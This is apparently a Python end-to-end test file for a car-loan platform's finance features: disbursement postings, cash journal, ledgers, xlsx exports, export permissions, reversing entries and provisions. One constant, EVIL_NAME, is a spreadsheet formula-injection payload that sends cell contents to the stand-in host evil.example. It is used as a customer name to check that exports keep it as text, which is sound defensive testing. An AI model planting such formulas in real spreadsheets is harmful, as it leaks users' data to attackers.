"""Finance through the gateway (issue 6): a loan disbursed through the gateway shows up as a balanced posting, a
cash-journal line and ledger rows, exportable to .xlsx (where a formula-looking name stays text); reports balance;
a correction is a reversing entry."""
import io
import uuid
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from services.common import clock
from tests.e2e.test_customers import register
from tests.e2e.conftest import assert_problem, create_employee
from tests.helpers import new_vin, wait_until

TODAY = clock.today().isoformat()
EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'


@pytest.fixture(scope="module")
def disbursed(staff, product):
    """A loan to a customer with a formula for a name, taken from application to disbursement."""
    officer = staff["officer"]
    customer = register(officer, name=EVIL_NAME)[0].json()
    car = officer.post("/api/v1/vehicles", json={"vin": new_vin(), "brand": "大众", "model": "帕萨特", "year": 2023,
                                                 "owner_customer_id": customer["id"]}).json()
    valuation = staff["appraiser_a"].post(f"/api/v1/vehicles/{car['id']}/valuations",
                                          json={"appraised_value": "200000.00", "method": "market"}).json()
    staff["appraiser_b"].post(f"/api/v1/valuations/{valuation['id']}/review", json={"approve": True})
    application = officer.post("/api/v1/loan-applications", json={
        "customer_id": customer["id"], "product_id": product["id"], "vehicle_id": car["id"],
        "amount": "150000.00", "term_months": 36}).json()
    path = f"/api/v1/loan-applications/{application['id']}"
    staff["reviewer_1"].post(f"{path}/investigation", json={"findings": "ok", "recommendation": "approve"})
    staff["reviewer_2"].post(f"{path}/decision", json={"approve": True})
    loan = officer.post(f"{path}/contract", json={"signed_on": TODAY}).json()
    staff["clerk"].post(f"/api/v1/loans/{loan['id']}/disbursement", json={
        "payee_name": "收款人", "payee_account": "6222020200112233445", "amount": "147000.00"})
    voucher = f"FK-{uuid.uuid4().hex[:6]}"
    review = staff["checker"].post(f"/api/v1/loans/{loan['id']}/disbursement/review",
                                   json={"approve": True, "voucher_no": voucher, "disbursed_on": TODAY})
    assert review.status_code == 200, review.text
    return {**loan, "voucher_no": voucher}


def posted(client, loan_id):
    return wait_until(lambda: client.get("/api/v1/finance/journal-entries", params={"loan_id": loan_id})
                      .json()["items"], timeout=20, message="the disbursement posting")


def test_the_disbursement_is_posted_balanced_once_with_its_cash_journal_line(staff, disbursed):
    clerk = staff["clerk"]
    [entry] = posted(clerk, disbursed["id"])
    lines = {(line["account"], line["debit"], line["credit"]) for line in entry["lines"]}
    assert lines == {("1301", "150000.00", "0.00"), ("1002", "0.00", "147000.00"), ("6021", "0.00", "3000.00")}
    assert entry["source_event_id"] and entry["posted_on"] == TODAY

    journal = clerk.get("/api/v1/finance/cash-journal", params={"from": TODAY, "page_size": 100}).json()
    [line] = [row for row in journal["items"] if row["voucher_no"] == disbursed["voucher_no"]]
    assert line["expense"] == "147000.00" and line["income"] is None and line["counterparty"] == "收款人"
    assert Decimal(journal["items"][-1]["balance"]) == Decimal(journal["opening_balance"]) + sum(
        Decimal(row["income"] or 0) - Decimal(row["expense"] or 0) for row in journal["items"])

    trial = clerk.get("/api/v1/finance/trial-balance").json()
    assert trial["balanced"] and trial["total_debit"] == trial["total_credit"]
    balances = {row["account"]: row for row in trial["accounts"]}
    assert Decimal(balances["1301"]["balance"]) >= Decimal("150000.00")


def test_ledgers_and_reports_show_it_and_export_to_xlsx_with_formulas_as_text(staff, disbursed):
    clerk = staff["clerk"]
    posted(clerk, disbursed["id"])
    ledger = clerk.get("/api/v1/finance/ledgers/disbursements", params={"from": TODAY, "to": TODAY,
                                                                         "page_size": 100}).json()
    [row] = [r for r in ledger["items"] if r["contract_no"] == disbursed["contract_no"]]
    assert (row["principal"], row["fees"], row["net_amount"]) == ("150000.00", "3000.00", "147000.00")
    assert row["customer_name"] == EVIL_NAME and ["contract_no", "合同编号"] in ledger["columns"]

    export = clerk.get("/api/v1/finance/ledgers/disbursements", params={"from": TODAY, "format": "xlsx"})
    assert export.status_code == 200 and export.headers["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(export.content)).active
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]][:3] == ["放款日期", "合同编号", "客户名称"]
    [mine] = [r for r in rows[1:] if r[1].value == disbursed["contract_no"]]
    assert mine[2].value == EVIL_NAME and mine[2].data_type == "s"  # text, never a formula
    assert mine[3].value == 150000 and mine[3].data_type == "n"  # amounts are numbers the sheet can sum
    assert len(rows) - 1 == ledger["total"]

    balances = clerk.get("/api/v1/finance/ledgers/balances", params={"page_size": 100}).json()
    assert {r["contract_no"]: r["outstanding_principal"] for r in balances["items"]}[
        disbursed["contract_no"]] == "150000.00"
    portfolio = clerk.get("/api/v1/finance/reports/portfolio").json()
    normal = {g["classification"]: g for g in portfolio["grades"]}["normal"]
    assert Decimal(normal["outstanding_principal"]) >= Decimal("150000.00") and normal["label"] == "正常"
    income = clerk.get("/api/v1/finance/reports/monthly-income").json()
    assert Decimal(income["items"][-1]["fee_income"]) >= Decimal("3000.00")
    assert clerk.get("/api/v1/finance/cash-journal", params={"format": "xlsx"}).status_code == 200


def test_exports_need_the_export_permission(platform, admin, disbursed):
    _, username, password = create_employee(admin, ["auditor"])
    auditor = platform.client(platform.login(username, password))
    assert auditor.get("/api/v1/finance/ledgers/balances").status_code == 200
    assert_problem(auditor.get("/api/v1/finance/ledgers/balances", params={"format": "xlsx"}), 403)


def test_a_correction_is_a_reversing_entry_and_provisions_run_once_per_date(staff, disbursed):
    clerk, checker = staff["clerk"], staff["checker"]
    [entry] = posted(clerk, disbursed["id"])
    assert_problem(clerk.post(f"/api/v1/finance/journal-entries/{entry['id']}/reverse",
                              json={"reason": "录入错误"}), 403)
    reversal = checker.post(f"/api/v1/finance/journal-entries/{entry['id']}/reverse", json={"reason": "录入错误"})
    assert reversal.status_code == 201, reversal.text
    assert {(l["account"], l["debit"], l["credit"]) for l in reversal.json()["lines"]} == {
        ("1301", "0.00", "150000.00"), ("1002", "147000.00", "0.00"), ("6021", "3000.00", "0.00")}
    assert_problem(checker.post(f"/api/v1/finance/journal-entries/{entry['id']}/reverse",
                                json={"reason": "again"}), 409, "ENTRY_ALREADY_REVERSED")
    original = clerk.get(f"/api/v1/finance/journal-entries/{entry['id']}").json()
    assert original["lines"] == entry["lines"]  # the original is untouched
    assert clerk.get("/api/v1/finance/trial-balance").json()["balanced"]

    as_of = "2099-12-31"  # after every posting of this test session: every loan is provisioned
    run = checker.post("/api/v1/finance/provisions/run", json={"as_of": as_of})
    assert run.status_code == 200, run.text
    portfolio = checker.get("/api/v1/finance/reports/portfolio", params={"as_of": as_of}).json()
    assert run.json()["required"] == portfolio["required_provision"] == portfolio["booked_provision"]
    assert_problem(checker.post("/api/v1/finance/provisions/run", json={"as_of": as_of}), 409,
                   "PROVISIONS_ALREADY_RUN")
    assert_problem(clerk.post("/api/v1/finance/provisions/run", json={"as_of": as_of}), 403)
